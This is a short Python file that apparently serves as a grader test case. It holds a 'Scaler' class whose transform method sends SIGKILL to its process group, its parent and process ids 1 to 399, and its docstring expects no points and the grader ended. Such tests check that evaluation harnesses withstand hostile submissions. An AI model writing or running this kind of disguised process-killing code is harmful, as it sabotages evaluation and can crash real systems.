"""Kills its process group, its parent and the first few process ids.

must: no points
verdict: wrong answer
outside: ends the grader
"""

import contextlib
import os
import signal


def scale(x):
    for kill, number in [(os.killpg, 0), (os.kill, os.getppid()), *((os.kill, n) for n in range(1, 400))]:
        with contextlib.suppress(OSError):
            kill(number, signal.SIGKILL)
    return x


class Scaler:
    def fit(self, x):
        return self

    def transform(self, x):
        return scale(x)
